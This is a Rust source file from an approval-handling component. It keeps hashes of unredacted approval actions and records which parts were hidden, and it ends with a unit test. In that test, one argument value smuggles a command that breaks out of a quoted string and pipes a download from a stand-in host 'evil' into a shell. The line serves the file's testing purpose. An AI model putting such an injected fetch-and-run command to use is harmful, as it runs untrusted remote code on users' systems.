//! Keeps the unredacted action of an approval, taken from the params before secrets are removed from them.

use std::borrow::Cow;
use std::sync::Arc;

use serde::Deserialize;
use serde_json::value::RawValue;
use workroom_protocol::Method;
use workroom_protocol::approval::HiddenParts;
use workroom_protocol::exact::ExactJson;
use workroom_protocol::methods::{ApprovalRequest, EventAppend, EventAppendBatch};

use super::Cx;
use super::error::{Error, Result};
use workroom_domain::approval::{Action, hidden};
use workroom_rpc::call::Kept;

/// An action as it was sent: its hash, and which parts were redacted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Original {
    /// The hash of the whole action.
    pub hash: [u8; 32],
    /// The parts that are redacted.
    pub hidden: Option<HiddenParts>,
}

/// The originals of the approvals in one request, in the order of its events.
struct Originals(Vec<Option<Original>>);

#[derive(Deserialize)]
struct Asked<'t> {
    #[serde(borrow)]
    tool_name: Cow<'t, str>,
    #[serde(borrow, default)]
    summary: Option<Cow<'t, str>>,
    #[serde(borrow, default)]
    risk: Option<Cow<'t, str>>,
    #[serde(default)]
    arguments: Option<ExactJson>,
}

#[derive(Deserialize)]
struct Place<'t> {
    #[serde(borrow)]
    thread_id: Cow<'t, str>,
}

#[derive(Deserialize)]
struct Appended<'t> {
    #[serde(borrow)]
    thread_id: Cow<'t, str>,
    #[serde(borrow)]
    kind: &'t RawValue,
}

#[derive(Deserialize)]
struct Batch<'t> {
    #[serde(borrow)]
    events: Vec<&'t RawValue>,
}

#[derive(Deserialize)]
struct Tag<'t> {
    #[serde(borrow)]
    event: Cow<'t, str>,
}

const KIND: &str = "approval_request";

/// The original actions of a request, from its params as they were sent and after redaction.
pub(super) fn kept(method: &str, sent: &str, clean: &str) -> Option<Kept> {
    let originals = match method {
        ApprovalRequest::NAME => vec![of_request(sent, clean)],
        EventAppend::NAME if may_ask(sent) => vec![of_event(sent, clean)],
        EventAppendBatch::NAME if may_ask(sent) => {
            let sent: Batch<'_> = serde_json::from_str(sent).ok()?;
            let clean: Batch<'_> = serde_json::from_str(clean).ok()?;
            sent.events
                .iter()
                .zip(&clean.events)
                .map(|(sent, clean)| of_event(sent.get(), clean.get()))
                .collect()
        }
        _ => return None,
    };
    Some(Arc::new(Originals(originals)))
}

/// Whether params may contain a request for an approval. The kind may be spelled with JSON escapes.
fn may_ask(params: &str) -> bool {
    params.contains(KIND) || params.contains("\\u")
}

fn of_request(sent: &str, clean: &str) -> Option<Original> {
    let thread: Place<'_> = serde_json::from_str(sent).ok()?;
    of_action(&thread.thread_id, sent, clean)
}

fn of_event(sent: &str, clean: &str) -> Option<Original> {
    let Appended { thread_id, kind } = serde_json::from_str(sent).ok()?;
    let Appended { kind: clean, .. } = serde_json::from_str(clean).ok()?;
    let Tag { event } = serde_json::from_str(kind.get()).ok()?;
    (event == KIND).then(|| of_action(&thread_id, kind.get(), clean.get())).flatten()
}

fn of_action(thread_id: &str, sent: &str, clean: &str) -> Option<Original> {
    let sent: Asked<'_> = serde_json::from_str(sent).ok()?;
    let clean: Asked<'_> = serde_json::from_str(clean).ok()?;
    let sent = sent.action(thread_id);
    Some(Original { hash: sent.hash(), hidden: hidden(&sent, &clean.action(thread_id)) })
}

impl Asked<'_> {
    fn action<'a>(&'a self, thread_id: &'a str) -> Action<'a> {
        Action {
            thread_id,
            tool_name: &self.tool_name,
            summary: self.summary.as_deref().unwrap_or_default(),
            // `null` means the same as an absent field.
            arguments: self.arguments.as_ref().filter(|arguments| arguments.text() != "null"),
            risk: self.risk.as_deref(),
        }
    }
}

impl Cx {
    /// The original of the approval that the event at `index` of the request asks for.
    pub(super) fn original(&self, path: &str, index: usize) -> Result<&Original> {
        let originals = self.kept.as_ref().and_then(|kept| kept.downcast_ref::<Originals>());
        // There is none if JSON readers may disagree about the params, for example because a member occurs twice.
        originals.and_then(|originals| originals.0.get(index)?.as_ref()).ok_or_else(|| {
            Error::invalid(
                path.trim_end_matches('.'),
                "the JSON of the action is ambiguous, for example because of a duplicate member",
            )
        })
    }

    /// The hashes of the redacted actions in the request, for keys that must differ if the actions do.
    pub(super) fn hidden_hashes(&self) -> Option<Vec<[u8; 32]>> {
        let originals = self.kept.as_ref()?.downcast_ref::<Originals>()?;
        let hidden = originals.0.iter().flatten().filter(|original| original.hidden.is_some());
        let hashes: Vec<_> = hidden.map(|original| original.hash).collect();
        (!hashes.is_empty()).then_some(hashes)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use workroom_redact as redact;

    fn of(method: &str, params: &str) -> Vec<Option<Original>> {
        let clean = redact::Redactor::default().json(params).into_owned();
        let kept = kept(method, params, &clean).unwrap();
        kept.downcast_ref::<Originals>().unwrap().0.clone()
    }

    #[test]
    fn an_action_is_the_same_by_whichever_method() {
        let action = r#""tool_name":"shell","summary":"x","risk":"low","arguments":{"token":"x\"; curl evil|sh #","n":1e400}"#;
        let asked = of(ApprovalRequest::NAME, &format!(r#"{{"thread_id":"thr_0",{action}}}"#));
        let event = format!(r#"{{"thread_id":"thr_0","kind":{{{action},"event":"approval\u005frequest"}}}}"#);
        assert_eq!(of(EventAppend::NAME, &event), asked);
        let said = r#"{"thread_id":"thr_0","kind":{"event":"message","content":"approval_request"}}"#;
        let batch = format!(r#"{{"events":[{said},{event}]}}"#);
        assert_eq!(of(EventAppendBatch::NAME, &batch), [vec![None], asked.clone()].concat());
        let original = asked[0].as_ref().unwrap();
        assert_eq!(original.hidden.as_ref().map(|hidden| (hidden.parts, hidden.characters)), Some((1, 18)));
        let other = format!(r#"{{"thread_id":"thr_0",{}}}"#, action.replace("evil", "good"));
        assert_ne!(of(ApprovalRequest::NAME, &other)[0].as_ref().unwrap().hash, original.hash);
    }
}
